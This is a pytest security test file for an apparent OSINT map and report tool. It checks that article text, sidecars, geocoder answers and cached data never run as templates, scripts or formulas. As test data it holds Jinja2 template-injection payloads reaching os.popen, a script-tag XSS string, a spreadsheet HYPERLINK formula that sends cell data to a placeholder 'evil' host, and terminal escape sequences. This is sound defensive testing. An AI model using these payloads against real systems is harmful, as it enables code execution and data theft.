"""What a reader opens stays inert: maps, reports, spreadsheets, GIS files and terminals.

Article text, sidecars and online answers are hostile (docs/security.md): no template syntax, script
or formula from them runs in a browser, a notebook kernel or a spreadsheet; XML stays valid; nothing
printed for a person carries an escape sequence.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from servers import FakeClock, MockServer, Reply

import osint
from osint import cli
from osint.escape import csv_cell, esc, js_string, terminal, xml_text
from osint.io import atomic_output
from osint.online import http
from osint.online.cache import (
    AnswerCache,
    geocoder_key,
    legacy_root,
    request_key,
)

ROOT = Path(__file__).resolve().parents[1]



def ssti(marker: Path) -> list[str]:
    """Jinja2 payloads that, if ever compiled as a template, would create ``marker``."""
    cmd = f"touch {marker}"
    return [
        "{{ cycler.__init__.__globals__.os.popen(" + repr(cmd) + ").read() }}",
        "{% for x in [1] %}{{ joiner.__init__.__globals__.os.popen(" + repr(cmd) + ").read() }}"
        "{% endfor %}",
        "{{ lipsum.__globals__['os'].popen(" + repr(cmd) + ").read() }}",
    ]



def template_article(tmp_path: Path, marker: Path) -> Path:
    lines = [f"Report from Pyongyang {ssti(marker)[0]}"]
    for i, p in enumerate(ssti(marker)):
        lines.append(f"Officials in Pyongyang said {p} and flew to Moscow on day {i}.")
    lines.append("Hashtags {#NorthKorea} and {% and {{ and }} and {# in Seoul.")
    lines.append("Satellite imagery of Kim Il Sung Square showed {{7*7}} rehearsing troops, "
                 "said analyst Dave Smith.")
    path = tmp_path / "ssti.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    side = {"title": f"{ssti(marker)[1]} <script>alert(1)</script>", "published": "2023-07-27"}
    (tmp_path / "ssti.json").write_text(json.dumps(side), encoding="utf-8")
    return path



def _geocoder_answer(marker: Path) -> list[dict]:
    return [{"place_id": 1, "osm_type": "relation", "osm_id": 42, "lat": "38.947", "lon": "126.2",
             "display_name": f"Hoechang County {ssti(marker)[0]}", "name": ssti(marker)[2],
             "class": "boundary", "type": "administrative", "importance": 0.5,
             "address": {"country_code": "kp"}}]



def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True



@pytest.fixture
def cache_env(cache_env):
    """conftest's cache_env, and a session on a fake clock: services on a closed port fail at once
    (their retries' back-off costs no time)."""
    with http.use_session(http.Session(clock=FakeClock())):
        yield cache_env



CLAIM = ("Satellite imagery taken {when} by Maxar showed troops at Kim Il Sung Square in Pyongyang, "
         "said analyst Dave Smith.\n")



ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b31m\x07\r"



def test_escaping_leaves_no_template_syntax():
    for payload in ("{{ 7*7 }}", "{% if %}", "{#x#}", "}}{{"):
        assert "{" not in esc(payload) and "}" not in esc(payload)
        assert "{" not in js_string(payload) and "}" not in js_string(payload)
    assert json.loads(js_string("{{x}}</script>")) == "{{x}}</script>"



@pytest.mark.slow
def test_template_payload_in_article_and_sidecar_never_runs(tmp_path, browser):
    from test_browser import _OPEN_ALL, _dom

    marker = tmp_path / "PWNED"
    article = template_article(tmp_path, marker)
    out = tmp_path / "map.html"
    assert cli.main(["map", str(article), "-o", str(out)]) == 0
    assert not marker.exists()
    page = out.read_text("utf-8")
    assert "popen" in page  # the text is in the page, as data
    probe = tmp_path / "probe.html"
    probe.write_text(page.replace("</body>", _OPEN_ALL + "</body>"), encoding="utf-8")
    dom = _dom(browser.dump_dom(probe))
    assert dom.opened and dom.pwned == []
    shown = "".join(dom.popup_text)
    # The reader sees the article's words as written, braces and all.
    assert "{{ cycler.__init__.__globals__.os.popen(" in shown
    assert "{#NorthKorea}" in shown and "{{7*7}}" in shown
    assert not marker.exists()



@pytest.mark.slow
def test_template_payload_in_report_never_runs(tmp_path):
    marker = tmp_path / "PWNED"
    article = template_article(tmp_path, marker)
    assert cli.main(["report", "--article", str(article), "--out", str(tmp_path / "out")]) == 0
    assert not marker.exists()
    for page in (tmp_path / "out").glob("*.html"):
        html = page.read_text("utf-8")
        assert "<script>alert(1)</script>" not in html, page.name



@pytest.mark.slow
def test_template_payload_from_geocoder_and_its_cache_never_runs(cache_env, monkeypatch, browser):
    from test_browser import _OPEN_ALL, _dom

    tmp_path = cache_env
    marker = tmp_path / "PWNED"
    article = tmp_path / "a.txt"
    article.write_text("Satellite images show new buildings in Hoechang County, near Pyongyang.\n",
                       encoding="utf-8")
    with MockServer({"/search": Reply(_geocoder_answer(marker))}) as srv:
        monkeypatch.setenv("OSINT_NOMINATIM_URL", srv.url)
        assert cli.main(["map", "--online", str(article), "-o", str(tmp_path / "online.html")]) == 0
        assert len(srv.requests) == 1
    # The server is gone: the same answer now comes from the cache.
    assert cli.main(["map", "--online", str(article), "-o", str(tmp_path / "cached.html")]) == 0
    assert not marker.exists()
    for name in ("online.html", "cached.html"):
        page = (tmp_path / name).read_text("utf-8")
        probe = tmp_path / f"probe-{name}"
        probe.write_text(page.replace("</body>", _OPEN_ALL + "</body>"), encoding="utf-8")
        dom = _dom(browser.dump_dom(probe))
        assert dom.pwned == []
        assert "{{ cycler.__init__" in "".join(dom.popup_text), name
    assert not marker.exists()



def test_spreadsheet_formulas_are_neutralised(tmp_path, capsys):
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell(-33.9) == -33.9 and csv_cell("Seoul") == "Seoul"
    c = tmp_path / "c.jsonl"
    c.write_text(json.dumps({"id": '=HYPERLINK("http://evil/?"&A1)', "text": "Troops in Seoul."}) + "\n",
                 encoding="utf-8")
    assert cli.main(["geoparse", str(c), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out
    a = tmp_path / "a.txt"
    a.write_text("-Pyongyang and +Seoul and @Busan met in =Moscow.\n", encoding="utf-8")
    assert cli.main(["map", str(a), "-o", str(tmp_path / "m.html")]) == 0
    import csv as _csv

    for row in _csv.DictReader((tmp_path / "m.csv").open(encoding="utf-8")):
        for v in row.values():
            assert not v.startswith(("=", "+", "@")) and not (v.startswith("-") and not _number(v)), row



def test_kml_is_valid_xml_whatever_the_text(tmp_path):
    a = tmp_path / "a.txt"
    a.write_text("Officials\x01 in Pyongyang\x0b said \x1b[31mred\x1b[0m ]]> <x> & flew to Moscow.\n",
                 encoding="utf-8")
    assert cli.main(["map", str(a), "-o", str(tmp_path / "m.html")]) == 0
    root = ET.fromstring((tmp_path / "m.kml").read_bytes())
    descs = [d.text for d in root.iter("{http://www.opengis.net/kml/2.2}description")]
    assert descs and all("&lt;x&gt;" in d for d in descs if "Officials" in d)
    assert xml_text("a\x00b\x0cc\ud800d") == "abcd"



def test_terminal_output_strips_escape_sequences(tmp_path, capsys):
    a = tmp_path / "a.txt"
    a.write_text("Satellite imagery of Kim Il Sung Square showed rehearsing troops \x1b]0;owned\x07"
                 "\x1b[2J\x1b[31m, said analyst Dave Smith.\n", encoding="utf-8")
    (tmp_path / "a.json").write_text('{"title": "\\u001b[31mred title", "published": "2023-07-27"}',
                                     encoding="utf-8")
    assert cli.main(["crossref", str(a), "--format", "table"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "red title" in out
    assert terminal("a\x1b[31mb\x9b0mc\x00d\ne") == "abcd\ne"



def test_invisible_characters_inside_names_are_ignored():
    df = osint.geoparse("Officials flew from Mos\u200dcow to Pyong\u00adyang and Se\u200boul.")
    assert list(df["name"]) == ["Moscow", "Pyongyang", "Seoul"]
    assert list(df["country_code"]) == ["RU", "KP", "KR"]



def test_cache_info_never_prints_escape_sequences_from_the_cache(cache_env, capsys):
    cache = AnswerCache(warn=lambda m: None)
    cache.put(geocoder_key(f"nominatim{ESCAPES}", "q"), [1], endpoint="http://x")
    cache.put(request_key(f"celestrak{ESCAPES}", "http://x/gp"), [], endpoint="http://x")
    (legacy_root() / f"stac{ESCAPES}").mkdir(parents=True)
    (legacy_root() / f"stac{ESCAPES}" / "a.json").write_text("{}")
    assert cli.main(["cache", "info"]) == 0
    out, err = capsys.readouterr()
    assert "nominatim" in out and "stac" in out and "celestrak" in out
    for ch in "\x1b\x07\x9b\r":
        assert ch not in out + err



def test_the_command_line_cleans_everything_it_prints_for_a_person(cache_env, capsys, monkeypatch):
    from osint.cli import cache as cache_cmd

    def noisy(args) -> int:  # as a module that prints for itself would (osint report's progress)
        print(f"raw note {ESCAPES}", file=sys.stderr)
        sys.stderr.write(f"a library warning {ESCAPES}\n")
        return 0

    monkeypatch.setattr(cache_cmd, "run", noisy)
    assert cli.main(["cache", "info"]) == 0
    err = capsys.readouterr().err
    assert "raw note" in err and "a library warning" in err
    for ch in "\x1b\x07\x9b":
        assert ch not in err
    assert type(sys.stderr).__name__ != "TerminalStream"  # restored after the run



def test_terminal_stream_keeps_progress_bars_and_cleans_the_rest():
    import io

    from osint.escape import TerminalStream

    buf = io.StringIO()
    TerminalStream(buf).write(f"\r 50%|#####| {ESCAPES}done\n")
    assert buf.getvalue() == "\r 50%|#####| \rdone\n"



def test_a_service_error_text_is_cleaned_in_python_warnings(cache_env, monkeypatch):
    from osint.errors import GeocodingWarning

    with MockServer({"/search": Reply({"error": f"Unable to geocode {ESCAPES}"})}) as srv:
        monkeypatch.setenv("OSINT_NOMINATIM_URL", srv.url)
        monkeypatch.setenv("OSINT_GEOCODER_RETRIES", "0")
        with pytest.warns(GeocodingWarning) as got:
            osint.geoparse("Troops gathered in Hoechang County and Kujang County.", online=True)
    text = " ".join(str(w.message) for w in got)
    assert "Unable to geocode" in text and "\x1b" not in text and "\x07" not in text



@pytest.mark.parametrize("argv", [
    ["crossref", "{a}", "--format", "json", "-o", "{out}.json"],
    ["crossref", "{a}", "-o", "{out}.txt"],
    ["geoparse", "{a}", "-o", "{out}.jsonl"],
    ["geoparse", "{a}", "--format", "csv", "-o", "{out}.csv"],
    ["geoparse", "{a}", "--format", "geojson", "-o", "{out}.geojson"],
    ["geoparse", "{a}", "--format", "parquet", "-o", "{out}.parquet"],
])
def test_a_file_name_that_is_not_utf8_never_crashes_an_output(tmp_path, capsys, argv):
    folder = os.fsencode(tmp_path)
    a = os.fsdecode(folder + b"/\xff\xfe.txt")  # lone surrogates, as Python reads such a name
    Path(a).write_text(CLAIM.format(when="last week"), encoding="utf-8")
    Path(a).with_suffix(".json").write_text('{"published": "2023-07-27"}', encoding="utf-8")
    out = os.fsdecode(folder + b"/\xfe\xff-out")
    args = [x.format(a=a, out=out) for x in argv]
    assert cli.main(args) == 0, capsys.readouterr().err
    written = Path(args[-1]).read_bytes()
    if not args[-1].endswith(".parquet"):
        text = written.decode("utf-8")  # valid UTF-8: the name's bytes became U+FFFD
        assert "Kim Il Sung Square" in text
    if args[-1].endswith(".json"):
        assert json.loads(written)["article"]["path"].endswith("\ufffd\ufffd.txt")



def test_text_outputs_write_lone_surrogates_as_replacement_characters(tmp_path):
    with atomic_output(tmp_path / "x.txt") as fh:
        fh.write("name \udcff\udcfe end")
    assert (tmp_path / "x.txt").read_text("utf-8") == "name \ufffd\ufffd end"



def test_graphml_stays_valid_xml_with_control_characters_in_the_text(tmp_path):
    art = tmp_path / "a.txt"
    art.write_text("Kim Jong Un met Sergei\x01 Shoigu in Pyongyang, said Dave\x0bSmith of the CNS.\n",
                   encoding="utf-8")
    (tmp_path / "a.json").write_text('{"title": "Shoigu\\u0007 in \\u001bPyongyang"}', encoding="utf-8")
    out = tmp_path / "a.graphml"
    assert cli.main(["export", str(art), "--format", "graphml", "-o", str(out)]) == 0
    ET.parse(out)  # raises on invalid XML



def test_text_output_on_a_pipe_carries_no_escape_sequences(tmp_path):
    art = tmp_path / "a.txt"
    art.write_text("Troops in \x1b[31mPyongyang\x1b[0m and \x9b2J Seoul; \x1b]0;title\x07 Moscow.\n",
                   encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        res = subprocess.run([sys.executable, "-m", "osint.cli", "geoparse", str(art), "--format", fmt],
                             capture_output=True, cwd=ROOT)
        assert res.returncode == 0, res.stderr
        out = res.stdout.decode("utf-8")
        assert "Pyongyang" in out and "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    # Written to a file, the text is kept exactly as the article has it.
    res = subprocess.run([sys.executable, "-m", "osint.cli", "geoparse", str(art), "--format", "csv",
                          "-o", str(tmp_path / "p.csv")], capture_output=True, cwd=ROOT)
    assert res.returncode == 0 and "\x1b[31m" in (tmp_path / "p.csv").read_text("utf-8")

